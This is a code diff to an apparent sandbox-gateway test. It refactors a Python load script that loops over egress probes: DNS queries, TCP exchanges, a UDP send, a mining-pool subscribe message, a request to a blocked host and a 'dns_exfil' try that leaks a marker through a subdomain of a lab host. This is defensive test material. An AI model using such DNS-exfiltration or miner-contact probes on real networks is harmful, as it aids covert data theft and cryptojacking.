@@ -41,9 +41,8 @@ NAMESERVER = (server("ns").v4, 53)
 ITERATIONS_AFTER = 4
 """Loop iterations the client must complete after the fault before the capture is judged."""
 
-LOAD = r"""
+LOAD_PRELUDE = r"""
 import json, socket, sys, time
-marker = sys.argv[1]
 def dns(name):
     q = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"
     q += b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\x00\x00\x01\x00\x01"
@@ -54,11 +53,27 @@ def tcp(host, port, data, want):
     with socket.create_connection((host, port), timeout=1) as s:
         s.settimeout(1); s.sendall(data); got = s.recv(4096)
     return "ok" if want in got else "answer:%r" % got[:20]
+def iteration(n, tries):
+    start = time.time(); out = {}
+    for name, try_ in tries.items():
+        try:
+            out[name] = try_()
+        except Exception as e:
+            out[name] = type(e).__name__
+    print(json.dumps({"n": n, "start": start, "end": time.time(), **out}), flush=True)
+GET = b"GET / HTTP/1.1\r\nHost: allowed.lab\r\nConnection: close\r\n\r\n"
+"""
+"""The fault loads' common part (a sandbox script's head): a DNS query to the gateway's resolver, a TCP exchange,
+and one iteration of tries printed as a JSON line (``n``, ``start``, ``end`` and each try's outcome)."""
+
+LOAD = (
+    LOAD_PRELUDE
+    + r"""
+marker = sys.argv[1]
 def udp(host, port, data):
     with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
         s.sendto(data, (host, port))
     return "sent"
-GET = b"GET / HTTP/1.1\r\nHost: allowed.lab\r\nConnection: close\r\n\r\n"
 SUBSCRIBE = ('{"id":1,"method":"mining.subscribe","params":["%s"]}\n' % marker).encode()
 BLOCKED = ("GET /%s HTTP/1.1\r\nHost: blocked.lab\r\n\r\n" % marker).encode()
 tries = {
@@ -70,14 +85,9 @@ tries = {
     "dns_exfil": lambda: dns(marker + ".t.lab"),
 }
 for n in range(100000):
-    start = time.time(); out = {}
-    for name, try_ in tries.items():
-        try:
-            out[name] = try_()
-        except Exception as e:
-            out[name] = type(e).__name__
-    print(json.dumps({"n": n, "start": start, "end": time.time(), **out}), flush=True)
+    iteration(n, tries)
 """
+)
 
 
 def _iterations(load: Attacker) -> list[dict[str, object]]:
